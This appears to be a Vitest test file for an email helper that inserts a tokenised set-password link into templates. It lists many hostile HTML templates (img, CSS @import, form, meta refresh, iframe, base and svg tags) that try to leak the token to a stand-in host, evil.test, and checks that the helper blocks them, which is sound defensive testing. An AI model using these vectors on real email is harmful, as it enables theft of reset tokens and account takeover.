import { describe, expect, it } from 'vitest'
import { hasActionPlaceholder, insertActionLink } from './action-link.ts'

const marks = { link: 'https://link.invalid/abc', button: 'https://button.invalid/def' }
const url = 'https://desk.example.com/set-password?token=SECRET'
const placed = (html: string) =>
  insertActionLink(html, { placeholders: marks, url, label: 'Set your password' })
const hrefs = (html: string) => [...html.matchAll(/href="([^"]*)"/g)].map((match) => match[1])

describe('the action of a sign-in email', () => {
  it('is a button where a link to it stands, with the words of the template', () => {
    const html = placed(`<p>Hi</p><a href="${marks.link}" ping="https://evil.test" title="x">Come in</a>`)
    expect(html).toMatch(/^<p>Hi<\/p><a href="https:\/\/desk[^"]*SECRET" style="[^"]*">Come in<\/a>$/)
  })

  it('is a button where the variable stands, and a plain link where the older one does', () => {
    expect(placed(`<p>${marks.button}</p>`)).toMatch(
      /<p><a href="[^"]*SECRET" style=".*">Set your password<\/a><\/p>/,
    )
    expect(placed(`<p>Copy ${marks.link} please</p>`)).toBe(`<p>Copy <a href="${url}">${url}</a> please</p>`)
    expect(hrefs(placed(`<a href="${marks.link}">${marks.link}</a>`))).toEqual([url])
  })

  it.each([
    `<img src="https://evil.test/?${marks.link}">`,
    `<img src='https://evil.test/?${marks.link}'`,
    `<img alt="${marks.link}" src="https://evil.test/x.png">`,
    `<a href="https://evil.test/?next=${marks.link}">Click</a>`,
    `<a href="https://evil.test" title="${marks.button}">Click</a>`,
    `<div style="background:url(https://evil.test/?${marks.link})">x</div>`,
    `<table background="https://evil.test/?${marks.link}"><tr><td>x</td></tr></table>`,
    `<style>@import "https://evil.test/?${marks.link}"; p { background: url(https://evil.test/?${marks.link}) }</style><p>x</p>`,
    `<link rel="stylesheet" href="https://evil.test/?${marks.link}">`,
    `<form action="https://evil.test"><textarea name="q">${marks.link}</textarea><input type="submit"></form>`,
    `<form action="https://evil.test"><input name="q" value="${marks.link}"></form>`,
    `<video poster="https://evil.test/?${marks.link}"></video>`,
    `<iframe src="https://evil.test/?${marks.link}"></iframe>`,
    `<meta http-equiv="refresh" content="0;url=https://evil.test/?${marks.link}">`,
    `<base href="https://evil.test/"><p>x</p>`,
    `<svg><image href="https://evil.test/?${marks.link}"/></svg>`,
    `<img src="https://evil.test/open.png" width="1" height="1">`,
  ])('never goes elsewhere by %s', (template) => {
    const html = placed(`<p>Hello</p>${template}`)
    const elsewhere = hrefs(html).filter((href) => href !== url)
    expect(elsewhere.every((href) => !href?.includes('SECRET'))).toBe(true)
    expect(html.replaceAll(`href="${url}"`, '').replaceAll(`>${url}<`, '><')).not.toContain('SECRET')
    expect(html).not.toMatch(/<(?:img|form|link|style|iframe|video|base|meta|svg)\b[^>]*evil/)
    expect(html).not.toMatch(/url\(|@import|src="https/)
    expect(hrefs(html), 'the reader can follow it all the same').toContain(url)
  })

  it('is missed where no reader would see it', () => {
    expect(hasActionPlaceholder(`<p>${marks.button}</p>`, marks)).toBe(true)
    expect(hasActionPlaceholder(`<a href=" ${marks.link} ">x</a>`, marks)).toBe(true)
    for (const html of [
      '<p>x</p>',
      `<img alt="${marks.link}">`,
      `<a href="https://evil.test/?${marks.link}">x</a>`,
      `<title>${marks.link}</title>`,
      `<!-- ${marks.link} -->`,
    ])
      expect(hasActionPlaceholder(`<p>Hello</p>${html}`, marks)).toBe(false)
  })
})
